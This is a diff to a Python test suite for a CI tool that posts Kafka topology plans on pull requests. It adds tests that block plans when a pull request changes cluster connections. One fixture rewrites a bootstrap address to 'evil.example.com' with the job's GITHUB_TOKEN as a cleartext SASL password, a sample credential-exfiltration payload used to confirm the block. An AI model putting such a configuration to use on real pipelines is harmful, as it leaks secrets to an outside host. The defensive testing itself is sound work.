@@ -263,7 +263,8 @@ def test_with_plan_each_valid_topology_is_planned_and_a_failed_plan_fails(
             return PlanOutcome(error="error: east (127.0.0.1:24980): cannot connect")
         return PlanOutcome(markdown="### topo plan: 1 to create, 0 to update, 0 to delete.\n")
 
-    status, _ = run(environment(tmp_path, base, api_url, plan="true"), repo, run_plan=fake_plan)
+    env = environment(tmp_path, base, api_url, plan="true", allow_connection_changes="true")
+    status, _ = run(env, repo, run_plan=fake_plan)
 
     assert status == 1
     assert sorted(planned) == [
@@ -348,3 +349,89 @@ def test_an_event_that_is_no_pull_request_is_one_clear_error(tmp_path: Path) -> 
         "::error title=topo review::the event is not a pull request: "
         "run this action on `pull_request` events\n"
     )
+
+
+def _planned_paths(
+    tmp_path: Path, repo: Path, base: str, api_url: str, **inputs: str
+) -> tuple[int, list[str]]:
+    planned: list[str] = []
+
+    def fake_plan(path: str, where: Path) -> PlanOutcome:
+        planned.append(path)
+        return PlanOutcome(markdown="### topo plan: 1 to create, 0 to update, 0 to delete.\n")
+
+    env = environment(tmp_path, base, api_url, plan="true", **inputs)
+    status, _ = run(env, repo, run_plan=fake_plan)
+    return status, planned
+
+
+def test_a_pull_request_that_redirects_a_cluster_is_not_planned_and_the_comment_says_why(
+    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
+) -> None:
+    """The pull request points east at a host it controls, over SASL_PLAINTEXT, with any of the
+    job's variables as the password: planning it would send that value there in clear."""
+    repo, base = repository
+    fake, api_url = github
+    quickstart = repo / "examples" / "quickstart.yaml"
+    text = quickstart.read_text()
+    redirected = text.replace(
+        'east: {bootstrap: "127.0.0.1:24980"}',
+        'east: {bootstrap: "evil.example.com:9092", security: {protocol: SASL_PLAINTEXT, '
+        'sasl: {mechanism: PLAIN, username: x, password: "${env:GITHUB_TOKEN}"}}}',
+        1,
+    )
+    assert redirected != text, "examples/quickstart.yaml no longer has this bootstrap"
+    quickstart.write_text(redirected)
+    commit_all(repo, "redirect east")
+
+    status, planned = _planned_paths(tmp_path, repo, base, api_url)
+
+    assert planned == []  # neither the redirect nor the added file (all its clusters are new)
+    assert status == 0  # nothing failed: nothing was asked of the clusters
+    body = fake.ours()[0]["body"]
+    assert (
+        "**topo plan**: not run: this pull request changes how topo connects to east "
+        "(bootstrap, security)."
+    ) in body
+    assert "allow-connection-changes" in body
+    assert "**topo plan**: not run: this pull request changes how topo connects to east (new)" in (
+        body
+    )  # the added active-active example
+
+    status, planned = _planned_paths(tmp_path, repo, base, api_url, allow_connection_changes="true")
+    assert sorted(planned) == ["examples/active-active.yaml", "examples/quickstart.yaml"]
+
+
+def test_a_pull_request_that_keeps_every_connection_is_planned(
+    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
+) -> None:
+    repo, base = repository
+    fake, api_url = github
+
+    status, planned = _planned_paths(
+        tmp_path, repo, base, api_url, files="examples/quickstart.yaml"
+    )
+
+    assert (status, planned) == (0, ["examples/quickstart.yaml"])
+    assert "### topo plan: 1 to create" in fake.ours()[0]["body"]
+
+
+def test_the_plan_reads_secret_files_only_under_the_repository_and_named_folders(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from topology.review import __main__ as review
+
+    seen: dict[str, str] = {}
+
+    def fake_run(args: list[str], **options: Any) -> subprocess.CompletedProcess[str]:
+        seen.update(options["env"])
+        return subprocess.CompletedProcess(args, 0, "plan", "")
+
+    monkeypatch.setattr(subprocess, "run", fake_run)
+    outcome = review.plan_with_cli("t.yaml", tmp_path, [tmp_path / "certs", Path("/etc/kafka")])
+    assert outcome.ok
+    assert seen[review.SECRET_FILE_ROOTS].split(os.pathsep) == [
+        str(tmp_path),
+        str(tmp_path / "certs"),
+        "/etc/kafka",
+    ]
